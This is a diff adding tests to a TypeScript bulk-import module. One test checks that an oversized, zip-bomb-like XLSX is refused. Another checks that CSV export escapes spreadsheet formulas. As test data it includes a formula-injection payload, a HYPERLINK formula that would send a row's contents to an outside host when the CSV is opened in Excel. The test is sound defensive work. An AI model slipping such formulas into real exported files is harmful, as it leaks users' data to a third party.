@@ -17,7 +17,8 @@ import { openPlatform } from '../../platform/index.js';
 import { openContentStudio } from '../content-studio.js';
 import { contentJobHandlers } from '../job-handlers.js';
 import { startCatalogueUpstream } from '../testing/catalogue-upstream.js';
-import { readBulkFile, readCsv } from './bulk-file.js';
+import { readBulkFile, readCsv, readXlsx } from './bulk-file.js';
+import { bulkResultFile } from './bulk-run.js';
 import { NearDuplicateIndex } from './near-duplicates.js';
 
 const WORKER_SCRIPT = fileURLToPath(new URL('../testing/bulk-worker-process.ts', import.meta.url));
@@ -76,6 +77,24 @@ describe('reading a catalogue', () => {
     const file = await readBulkFile(new Uint8Array(await workbook.xlsx.writeBuffer()));
     expect(file.format).toBe('xlsx');
     expect(file.rows).toEqual([{ rowNumber: 1, values: { Produkt: 'Kaffe Etiopien', Pris: '149' } }]);
+  });
+
+  // exceljs inflates the whole workbook in memory: a workbook that unpacks to far more than it
+  // weighs is refused from the zip's directory first (the limit is lowered here to keep it small).
+  it('refuses an XLSX that unpacks past the limit, as a zip bomb, before exceljs reads it', async () => {
+    const workbook = new ExcelJS.Workbook();
+    const sheet = workbook.addWorksheet('Sortiment');
+    sheet.addRow(['Produkt', 'Beskrivning']);
+    for (let row = 0; row < 200; row += 1) sheet.addRow([`Kaffe ${row}`, `${row} ${'å'.repeat(5_000)}`]);
+    const bytes = new Uint8Array(await workbook.xlsx.writeBuffer());
+    expect(bytes.length).toBeLessThan(200_000);
+    const refused = await readXlsx(bytes, 'sortiment.xlsx', {
+      maxUnpackedBytes: 1_000_000,
+      maxEntries: 100,
+    }).catch((error: unknown) => error);
+    expect(isPolettError(refused) && refused.code).toBe('file_too_large');
+    expect((refused as Error).message).toContain('sortiment.xlsx');
+    expect((await readXlsx(bytes, 'sortiment.xlsx')).rows).toHaveLength(200);
   });
 
   it('refuses a file without rows or with a repeated column, in one sentence', () => {
@@ -176,6 +195,35 @@ describe('a bulk run', () => {
     expect(sheet.name).toBe('Texter');
     expect(sheet.getRow(2).getCell(4).text).toBe('Kaffe Etiopien\n\nFruktigt');
     expect(sheet.rowCount).toBe(5);
+  });
+});
+
+describe('the result file', () => {
+  // A catalogue cell or a model's text that starts like a formula would run as one when the CSV
+  // is opened in Excel (a HYPERLINK that sends the row away); it is kept as text with a leading '.
+  it('neutralises cells that Excel would read as formulas, in the CSV, and leaves other text alone', async () => {
+    const formula = '=HYPERLINK("https://example.com/?d="&B2;"Klicka")';
+    const csv = new TextDecoder().decode(
+      await bulkResultFile(
+        {
+          columns: ['Produkt', 'Pris'],
+          rows: [
+            {
+              row: 1,
+              values: { Produkt: formula, Pris: '+46 31 12 34 56' },
+              text: undefined,
+              error: '@SUM(1)',
+            },
+            { row: 2, values: { Produkt: 'Kaffe Etiopien', Pris: '-12' }, text: undefined, error: undefined },
+          ],
+        },
+        'csv',
+        'sv',
+      ),
+    );
+    const records = parse(csv, { bom: true }) as string[][];
+    expect(records[1]).toEqual(['1', `'${formula}`, "'+46 31 12 34 56", '', '', '', "'@SUM(1)"]);
+    expect(records[2]).toEqual(['2', 'Kaffe Etiopien', "'-12", '', '', '', '']);
   });
 });
 
